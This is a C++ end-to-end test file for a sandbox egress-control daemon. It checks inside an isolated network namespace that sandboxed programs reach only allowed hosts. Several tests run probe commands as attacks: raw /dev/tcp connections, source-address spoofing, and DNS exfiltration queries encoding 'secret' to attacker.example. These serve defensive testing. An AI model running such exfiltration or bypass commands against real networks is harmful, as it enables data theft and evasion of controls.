@@ -1,0 +1,457 @@
+// End to end: programs inside sandboxes made by the real sandgate-launch, with no proxy
+// configuration, against the real daemon's transparent and DNS listeners, through real
+// nftables rules, to a test "internet" (origin servers and dnsmasq on TEST-NET addresses in a
+// network namespace of this test's own).
+//
+// The whole binary re-runs itself under `unshare --net` first (see main), so the daemon, the
+// launcher's veths and nft tables, and the route to the test internet all live in a private
+// namespace: nothing can reach the machine's real network, and two runs cannot clash.
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <boost/json.hpp>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <thread>
+
+#include "gtest/gtest.h"
+#include "support/sandgate_process.hpp"
+#include "support/subprocess.hpp"
+#include "support/temp_dir.hpp"
+
+namespace sandgate::test {
+namespace {
+
+namespace fs = std::filesystem;
+using namespace std::chrono_literals;
+
+constexpr const char* kInsideEnv = "SANDGATE_E2E_INSIDE";
+constexpr const char* kOrigin = "203.0.113.10";   // origin.test, registry.test
+constexpr const char* kBlocked = "203.0.113.20";  // blocked.test: no sandbox here may reach it
+constexpr const char* kResolver = "203.0.113.53";
+
+std::string launch_binary() {
+  const char* env = std::getenv("SANDGATE_LAUNCH_BIN");
+  return env ? env : SANDGATE_DEFAULT_LAUNCH_BIN;
+}
+
+std::string source_dir() {
+  const char* env = std::getenv("SANDGATE_SOURCE_DIR");
+  return env ? env : SANDGATE_DEFAULT_SOURCE_DIR;
+}
+
+std::string read_all(const std::string& path) {
+  std::ifstream in(path);
+  return std::string(std::istreambuf_iterator<char>(in), {});
+}
+
+CommandResult must(const std::vector<std::string>& argv) {
+  CommandResult r = run_command(argv, 30s);
+  if (r.exit_code != 0) {
+    std::string line;
+    for (const auto& a : argv) line += a + " ";
+    throw std::runtime_error(line + "failed: " + r.err + r.out);
+  }
+  return r;
+}
+
+// A background process (a server in the test internet), killed and reaped at the end.
+class Background {
+ public:
+  Background(const std::vector<std::string>& argv, const std::string& output) {
+    std::vector<std::string> args = argv;
+    std::vector<char*> raw;
+    for (auto& a : args) raw.push_back(a.data());
+    raw.push_back(nullptr);
+    pid_ = ::fork();
+    if (pid_ == 0) {
+      ::prctl(PR_SET_PDEATHSIG, SIGKILL);  // never outlive the test
+      const int fd = ::open(output.c_str(), O_WRONLY | O_CREAT | O_APPEND, 0600);
+      ::dup2(fd, STDOUT_FILENO);
+      ::dup2(fd, STDERR_FILENO);
+      ::execvp(raw[0], raw.data());
+      ::_exit(127);
+    }
+  }
+  ~Background() {
+    if (pid_ <= 0) return;
+    ::kill(pid_, SIGKILL);
+    ::waitpid(pid_, nullptr, 0);
+  }
+  Background(const Background&) = delete;
+  Background& operator=(const Background&) = delete;
+
+ private:
+  pid_t pid_ = -1;
+};
+
+// The test internet, the daemon and its config: set up once for the suite.
+struct World {
+  TempDir dir;
+  std::string internet = "sgt" + std::to_string(::getpid()) + "i";
+  std::string requests_log;
+  std::string dns_log;
+  std::unique_ptr<Background> servers;
+  std::unique_ptr<Background> dnsmasq;
+  std::unique_ptr<SandgateProcess> daemon;
+
+  World() {
+    requests_log = dir.file("requests.log");
+    dns_log = dir.file("dnsmasq.log");
+    make_certificates();
+    make_internet();
+    start_daemon();
+  }
+  ~World() {
+    daemon.reset();
+    servers.reset();
+    dnsmasq.reset();
+    run_command({"ip", "netns", "del", internet});
+  }
+
+  void make_certificates() {
+    const std::string d = dir.path();
+    must({"openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
+          "/CN=sandgate e2e test CA", "-keyout", d + "/ca.key", "-out", d + "/ca.pem"});
+    must({"openssl", "req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=origin.test", "-keyout",
+          d + "/origin.key", "-out", d + "/origin.csr"});
+    dir.write("san.ext",
+              "subjectAltName=DNS:origin.test,DNS:registry.test,DNS:blocked.test,IP:203.0.113.10,"
+              "IP:203.0.113.20\n");
+    must({"openssl", "x509", "-req", "-in", d + "/origin.csr", "-CA", d + "/ca.pem", "-CAkey",
+          d + "/ca.key", "-CAcreateserial", "-days", "2", "-extfile", d + "/san.ext", "-out",
+          d + "/origin.pem"});
+  }
+
+  void make_internet() {
+    const std::string& n = internet;
+    must({"ip", "link", "set", "lo", "up"});
+    must({"ip", "netns", "add", n});
+    must({"ip", "-n", n, "link", "set", "lo", "up"});
+    must({"ip", "link", "add", "inet0", "type", "veth", "peer", "name", "wan0", "netns", n});
+    must({"ip", "addr", "add", "192.0.2.1/30", "dev", "inet0"});
+    must({"ip", "link", "set", "inet0", "up"});
+    must({"ip", "-n", n, "addr", "add", "192.0.2.2/30", "dev", "wan0"});
+    must({"ip", "-n", n, "link", "set", "wan0", "up"});
+    for (const char* a : {kOrigin, kBlocked, kResolver}) {
+      must({"ip", "-n", n, "addr", "add", std::string(a) + "/32", "dev", "lo"});
+    }
+    must({"ip", "-n", n, "route", "add", "default", "via", "192.0.2.1"});
+    must({"ip", "route", "add", "203.0.113.0/24", "via", "192.0.2.2"});
+
+    const std::string script = source_dir() + "/tests/integration/testdata/e2e/internet.py";
+    const std::string o = kOrigin;
+    const std::string b = kBlocked;
+    servers = std::make_unique<Background>(
+        std::vector<std::string>{"ip", "netns", "exec", n, "python3", script, requests_log,
+                                 dir.file("origin.pem"), dir.file("origin.key"),
+                                 "http:" + o + ":80", "https:" + o + ":443", "banner:" + o + ":22",
+                                 "banner:" + o + ":2222", "udp:" + o + ":9999", "http:" + b + ":80",
+                                 "https:" + b + ":443", "banner:" + b + ":22"},
+        dir.file("servers.out"));
+    dnsmasq = std::make_unique<Background>(
+        std::vector<std::string>{
+            "ip", "netns", "exec", n, "dnsmasq", "--keep-in-foreground", "--no-resolv",
+            "--no-hosts", "--bind-interfaces", "--listen-address=" + std::string(kResolver),
+            "--log-queries", "--log-facility=" + dns_log, "--user=root",
+            "--pid-file=" + dir.file("dnsmasq.pid"), "--address=/origin.test/" + o,
+            "--address=/registry.test/" + o, "--address=/blocked.test/" + b},
+        dir.file("dnsmasq.out"));
+    // Both answer before the daemon needs them.
+    CommandResult dig;
+    for (int i = 0; i < 100; ++i) {
+      const bool http = read_all(dir.file("servers.out")).find("ready") != std::string::npos;
+      dig = run_command({"dig", std::string("@") + kResolver, "origin.test", "+short", "+tries=1",
+                         "+time=1"},
+                        5s);
+      if (http && dig.out.find(kOrigin) != std::string::npos) return;
+      std::this_thread::sleep_for(100ms);
+    }
+    throw std::runtime_error("the test internet did not come up: " +
+                             read_all(dir.file("servers.out")) + read_all(dir.file("dnsmasq.out")) +
+                             "; dig: " + dig.out + dig.err);
+  }
+
+  void start_daemon() {
+    fs::create_directories(dir.file("sandboxes.d"));
+    SandgateOptions o;
+    o.workers = 2;
+    o.audit_to_file = true;
+    o.sandboxes_dir = dir.file("sandboxes.d");
+    o.admin_listen = "127.0.0.1:9090";
+    o.listeners = "transparent = [\"0.0.0.0:15001\"]\ndns = [\"0.0.0.0:15053\"]";
+    o.tables =
+        "[limits]\npeek_timeout_ms = 300\n\n"
+        "[dns]\nservers = [\"" +
+        std::string(kResolver) +
+        "\"]\n\n"
+        "[launcher]\nstate_dir = \"" +
+        dir.file("state") + "\"\npool = \"10.201.0.0/24\"\nca_file = \"" + dir.file("ca.pem") +
+        "\"\n\n"
+        "[profiles.web]\n"
+        "allow = [\"origin.test\", \"registry.test\", \"origin.test:22\"]\n"
+        // TEST-NET is a special range: resolved addresses there need opening.
+        "allow_cidrs = [\"203.0.113.10/32\"]\n\n"
+        "[profiles.other]\n"
+        "allow = [\"blocked.test\"]\n"
+        "allow_cidrs = [\"203.0.113.20/32\"]\n";
+    daemon = std::make_unique<SandgateProcess>(o);
+  }
+};
+
+World* world = nullptr;
+
+class SandboxE2e : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    if (::getenv(kInsideEnv) == nullptr) return;
+    world = new World();
+  }
+  static void TearDownTestSuite() {
+    delete world;
+    world = nullptr;
+  }
+  void SetUp() override {
+    ASSERT_NE(world, nullptr) << "run through main(): the suite needs its private namespace";
+    audit_from_ = world->daemon->audit_lines().size();
+    requests_from_ = read_all(world->requests_log).size();
+    dns_from_ = read_all(world->dns_log).size();
+  }
+
+  static std::string id(const std::string& name) {
+    return "e2e-" + std::to_string(::getpid()) + "-" + name;
+  }
+
+  static CommandResult launch(const std::vector<std::string>& args,
+                              std::chrono::milliseconds timeout = 60s) {
+    std::vector<std::string> argv{launch_binary(), "--config", world->daemon->config_path()};
+    argv.insert(argv.end(), args.begin(), args.end());
+    return run_command(argv, timeout);
+  }
+
+  // `sandgate-launch run` with a shell script as CMD.
+  static CommandResult run_in(const std::string& sandbox, const std::string& profile,
+                              const std::string& script) {
+    return launch(
+        {"run", "--sandbox", id(sandbox), "--profile", profile, "--", "sh", "-c", script});
+  }
+
+  // What the test internet saw since this test began.
+  std::string requests() const { return read_all(world->requests_log).substr(requests_from_); }
+  std::string dns_queries() const { return read_all(world->dns_log).substr(dns_from_); }
+
+  std::vector<boost::json::object> audit_since() const {
+    auto lines = world->daemon->audit_lines();
+    return {lines.begin() + static_cast<std::ptrdiff_t>(audit_from_), lines.end()};
+  }
+  // Audit lines since the test began with this event code (and reason, if given).
+  std::vector<boost::json::object> audit(const std::string& code,
+                                         const std::string& reason = {}) const {
+    std::vector<boost::json::object> out;
+    for (auto& line : audit_since()) {
+      const auto& event = line.at("event").as_object();
+      if (event.at("code").as_string() != code) continue;
+      if (!reason.empty() &&
+          (!event.contains("reason") || event.at("reason").as_string() != reason)) {
+        continue;
+      }
+      out.push_back(line);
+    }
+    return out;
+  }
+  static std::string domain_of(const boost::json::object& line) {
+    const auto& d = line.at("destination").as_object();
+    return d.contains("domain") ? std::string(d.at("domain").as_string()) : std::string();
+  }
+
+  std::size_t audit_from_ = 0;
+  std::size_t requests_from_ = 0;
+  std::size_t dns_from_ = 0;
+};
+
+TEST_F(SandboxE2e, AllowedHostWorksOverHttpAndHttpsWithNoProxyVariables) {
+  const auto r =
+      run_in("web", "web",
+             "env | grep -i _proxy; "
+             "curl -sS -m 10 http://origin.test/ && curl -sS -m 10 https://origin.test/");
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_EQ(r.out, "hello from origin.test over http\nhello from origin.test over https\n");
+  EXPECT_NE(requests().find("REQUEST 203.0.113.10:80 host=origin.test path=/"), std::string::npos);
+  EXPECT_NE(requests().find("REQUEST 203.0.113.10:443 host=origin.test path=/"), std::string::npos);
+  const auto closed = audit("http_request");
+  ASSERT_EQ(closed.size(), 1u);
+  EXPECT_EQ(closed[0].at("labels").as_object().at("original_destination").as_string(),
+            "203.0.113.10:80");
+  EXPECT_EQ(audit("connection_closed").size(), 1u);  // the TLS tunnel
+}
+
+TEST_F(SandboxE2e, DeniedNameIsNotResolvedAndLoggedOnce) {
+  const auto r = run_in("deny", "web", "curl -sS -m 10 http://blocked.test/");
+  EXPECT_EQ(r.exit_code, 6) << r.err;  // could not resolve host
+  const auto denials = audit("SANDBOX_NETWORK_DENIED", "no_matching_rule");
+  ASSERT_GE(denials.size(), 1u);
+  for (const auto& d : denials) EXPECT_EQ(domain_of(d), "blocked.test");
+  EXPECT_EQ(dns_queries().find("blocked.test"), std::string::npos) << dns_queries();
+  EXPECT_EQ(requests().find(kBlocked), std::string::npos) << requests();
+}
+
+TEST_F(SandboxE2e, DeniedHostByAddressGetsTheDenialContract) {
+  // The sandbox names blocked.test itself (no DNS): HTTP gets the 403 body, TLS an alert.
+  const auto r = run_in("contract", "web",
+                        "curl -sS -m 10 --resolve blocked.test:80:203.0.113.20 "
+                        "-w '%{http_code}\\n' http://blocked.test/; "
+                        "curl -sS -m 10 --resolve blocked.test:443:203.0.113.20 "
+                        "https://blocked.test/; echo tls=$?");
+  EXPECT_NE(r.out.find("\"code\":\"SANDBOX_NETWORK_DENIED\""), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("403\n"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("tls=35"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.err.find("alert access denied"), std::string::npos) << r.err;
+  EXPECT_EQ(audit("SANDBOX_NETWORK_DENIED").size(), 2u);
+  EXPECT_EQ(requests().find(kBlocked), std::string::npos) << requests();
+}
+
+// THREATS 8: programs that ignore HTTP_PROXY or use hard-coded addresses.
+TEST_F(SandboxE2e, Threat8NoProxyAndHardCodedAddressesAreRefused) {
+  const auto r = run_in("noproxy", "web",
+                        "curl -sS -m 10 --noproxy '*' -k https://203.0.113.20/; echo tls=$?; "
+                        "curl -sS -m 10 --noproxy '*' -o /dev/null -w '%{http_code}\\n' "
+                        "http://203.0.113.20/; "
+                        "timeout 5 bash -c 'exec 3<>/dev/tcp/203.0.113.20/22 && cat <&3'; "
+                        "echo tcp=$?");
+  EXPECT_NE(r.out.find("tls=35"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.out.find("403\n"), std::string::npos) << r.out;
+  EXPECT_EQ(r.out.find("SSH-2.0"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("tcp=1"), std::string::npos) << r.out;  // reset, not a hang (124)
+  EXPECT_EQ(requests().find(kBlocked), std::string::npos) << requests();
+  EXPECT_GE(audit("SANDBOX_NETWORK_DENIED", "unnamed_destination").size(), 1u);
+}
+
+TEST_F(SandboxE2e, RawTcpIsAttributedThroughTheSandboxDnsAnswers) {
+  // origin.test:22 is allowed; 2222 is not. No SNI, no Host: the name comes from DNS.
+  const auto r =
+      run_in("ssh", "web",
+             "timeout 5 bash -c 'exec 3<>/dev/tcp/origin.test/22; head -n1 <&3'; "
+             "timeout 5 bash -c 'exec 3<>/dev/tcp/origin.test/2222; head -n1 <&3'; echo other=$?");
+  EXPECT_NE(r.out.find("SSH-2.0-sandgate-e2e"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.out.find("other=1"), std::string::npos) << r.out;
+  EXPECT_EQ(requests().find("203.0.113.10:2222"), std::string::npos) << requests();
+  const auto denied = audit("SANDBOX_NETWORK_DENIED", "port_not_allowed");
+  ASSERT_EQ(denied.size(), 1u);
+  EXPECT_EQ(domain_of(denied[0]), "origin.test");
+  EXPECT_EQ(denied[0].at("destination").as_object().at("port").as_int64(), 2222);
+}
+
+TEST_F(SandboxE2e, UdpPingAndSpoofedSourcesGoNowhere) {
+  const auto r = run_in(
+      "udp", "web",
+      "printf x > /dev/udp/203.0.113.10/9999; "
+      "ping -c1 -W2 203.0.113.10 >/dev/null 2>&1; echo ping=$?; "
+      "dev=$(ip -o route show default | awk '{print $5}'); "
+      "ip addr add 10.201.0.250/32 dev $dev; "
+      "curl -sS -m 5 --interface 10.201.0.250 -o /dev/null http://origin.test/; echo spoof=$?");
+  EXPECT_NE(r.out.find("ping=1"), std::string::npos) << r.out << r.err;
+  EXPECT_EQ(r.out.find("spoof=0"), std::string::npos) << r.out << r.err;
+  std::this_thread::sleep_for(300ms);
+  EXPECT_EQ(requests().find("UDP"), std::string::npos) << requests();
+  EXPECT_EQ(requests().find("REQUEST"), std::string::npos) << requests();
+}
+
+// THREATS 9: IPv6 is not a way around the IPv4 rules.
+TEST_F(SandboxE2e, Threat9Ipv6EgressFails) {
+  const auto r = run_in("v6", "web",
+                        "curl -sS -m 5 -6 http://[2001:db8::10]/; echo v6=$?; "
+                        "curl -sS -m 5 -6 http://origin.test/; echo name6=$?");
+  EXPECT_EQ(r.out.find("v6=0"), std::string::npos) << r.out;
+  EXPECT_EQ(r.out.find("name6=0"), std::string::npos) << r.out;
+  EXPECT_EQ(r.out.find("hello"), std::string::npos) << r.out;
+}
+
+// THREATS 10: a query for a denied name never leaves the host, whoever it is sent to.
+TEST_F(SandboxE2e, Threat10DnsExfiltrationNeverReachesAResolver) {
+  const auto r = run_in("exfil", "web",
+                        "dig +tries=1 +time=3 @203.0.113.53 c2VjcmV0.attacker.example A; "
+                        "dig +tries=1 +time=3 +tcp @1.1.1.1 c2VjcmV0.attacker.example TXT; "
+                        "dig +tries=1 +time=3 @203.0.113.53 origin.test TXT");
+  EXPECT_NE(r.out.find("status: REFUSED"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("EDE: 15 (Blocked): (SANDBOX_NETWORK_DENIED"), std::string::npos) << r.out;
+  EXPECT_EQ(r.out.find("status: NOERROR"), std::string::npos) << r.out;
+  std::this_thread::sleep_for(300ms);
+  EXPECT_EQ(dns_queries().find("attacker"), std::string::npos) << dns_queries();
+  EXPECT_EQ(dns_queries().find("TXT"), std::string::npos) << dns_queries();
+  EXPECT_GE(audit("SANDBOX_NETWORK_DENIED", "no_matching_rule").size(), 2u);
+}
+
+TEST_F(SandboxE2e, NpmInstallsFromARegistryThroughSandgate) {
+  if (run_command({"npm", "--version"}, 20s).exit_code != 0) GTEST_SKIP() << "npm not installed";
+  const std::string work = world->dir.file("npm-work");
+  fs::create_directories(work);
+  const auto r = run_in("npm", "web",
+                        "cd " + work + " && HOME=" + work +
+                            " npm install --no-audit --no-fund --no-update-notifier "
+                            "--registry https://registry.test/ sandgate-e2e-pkg 2>&1 && "
+                            "node -e \"console.log(require('sandgate-e2e-pkg'))\"");
+  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
+  EXPECT_NE(r.out.find("reached through sandgate"), std::string::npos) << r.out;
+  EXPECT_NE(requests().find("host=registry.test path=/sandgate-e2e-pkg/-/"), std::string::npos)
+      << requests();
+}
+
+TEST_F(SandboxE2e, SandboxesAtOnceEachLimitedToItsOwnPolicy) {
+  ASSERT_EQ(launch({"up", "--sandbox", id("a"), "--profile", "web"}).exit_code, 0);
+  ASSERT_EQ(launch({"up", "--sandbox", id("b"), "--profile", "other"}).exit_code, 0);
+  const auto get = [&](const std::string& sandbox, const std::string& host) {
+    return launch({"exec", "--sandbox", id(sandbox), "--", "curl", "-sS", "-m", "10", "-o",
+                   "/dev/null", "-w", "%{http_code}", "http://" + host + "/"});
+  };
+  EXPECT_EQ(get("a", "origin.test").out, "200");
+  EXPECT_NE(get("a", "blocked.test").out, "200");
+  EXPECT_EQ(get("b", "blocked.test").out, "200");
+  EXPECT_NE(get("b", "origin.test").out, "200");
+  EXPECT_EQ(launch({"down", "--sandbox", id("a")}).exit_code, 0);
+  EXPECT_EQ(launch({"down", "--sandbox", id("b")}).exit_code, 0);
+}
+
+TEST_F(SandboxE2e, NothingRemainsAfterRunAndDown) {
+  ASSERT_EQ(run_in("gone", "web", "true").exit_code, 0);
+  ASSERT_EQ(launch({"up", "--sandbox", id("gone2"), "--profile", "web"}).exit_code, 0);
+  ASSERT_EQ(launch({"down", "--sandbox", id("gone2")}).exit_code, 0);
+  const std::string netns = run_command({"ip", "netns", "list"}).out;
+  EXPECT_EQ(netns.find("sg-" + id("")), std::string::npos) << netns;
+  const std::string links = run_command({"ip", "-o", "link"}).out;
+  EXPECT_EQ(links.find(": sg"), std::string::npos) << links;
+  const std::string tables = run_command({"nft", "list", "tables"}).out;
+  EXPECT_EQ(tables.find("sandgate"), std::string::npos) << tables;
+  EXPECT_TRUE(fs::is_empty(world->dir.file("sandboxes.d")));
+  EXPECT_FALSE(fs::exists("/etc/netns/sg-" + id("gone")));
+  const auto listed = launch({"list"});
+  EXPECT_EQ(listed.out.find(id("gone")), std::string::npos) << listed.out;
+}
+
+}  // namespace
+}  // namespace sandgate::test
+
+// Re-runs this binary inside a fresh network namespace (`unshare --net`): the daemon, the
+// launcher's wiring and the test internet never touch the machine's own network.
+int main(int argc, char** argv) {
+  if (std::getenv(sandgate::test::kInsideEnv) == nullptr) {
+    if (::geteuid() != 0) {
+      std::fprintf(stderr, "sandbox_e2e_test needs root (network namespaces, nftables)\n");
+      return 1;
+    }
+    ::setenv(sandgate::test::kInsideEnv, "1", 1);
+    std::vector<char*> args{const_cast<char*>("unshare"), const_cast<char*>("--net"),
+                            const_cast<char*>("--")};
+    for (int i = 0; i < argc; ++i) args.push_back(argv[i]);
+    args.push_back(nullptr);
+    ::execvp("unshare", args.data());
+    std::perror("unshare");
+    return 1;
+  }
+  ::testing::InitGoogleTest(&argc, argv);
+  return RUN_ALL_TESTS();
+}
